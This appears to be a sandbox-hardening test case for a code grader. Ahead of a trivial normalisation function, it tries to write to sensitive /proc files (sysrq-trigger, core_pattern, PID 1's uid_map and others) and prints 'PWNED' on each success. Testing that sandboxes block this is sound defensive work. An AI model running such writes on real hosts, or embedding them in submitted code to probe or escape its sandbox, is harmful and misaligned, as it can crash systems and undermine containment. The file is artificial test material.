# expect: correct
import glob, os
names = ['/proc/sysrq-trigger', '/proc/sys/kernel/core_pattern', '/proc/sys/kernel/hostname', '/proc/sys/vm/drop_caches', '/proc/sys/kernel/ns_last_pid']
names += [f'/proc/1/{n}' for n in ('oom_score_adj', 'oom_adj', 'comm', 'clear_refs', 'coredump_filter', 'timerslack_ns', 'autogroup', 'uid_map', 'gid_map', 'setgroups', 'attr/current')]
for name in names + glob.glob('/proc/sys/*/*'):
    if not os.path.isfile(name): continue
    try:
        with open(name, 'r+b', 0) as f: f.write(f.read() or b'9')
        print('PWNED', name)
    except OSError: pass
def solve(x):
    return (x - x.mean()) / x.std()
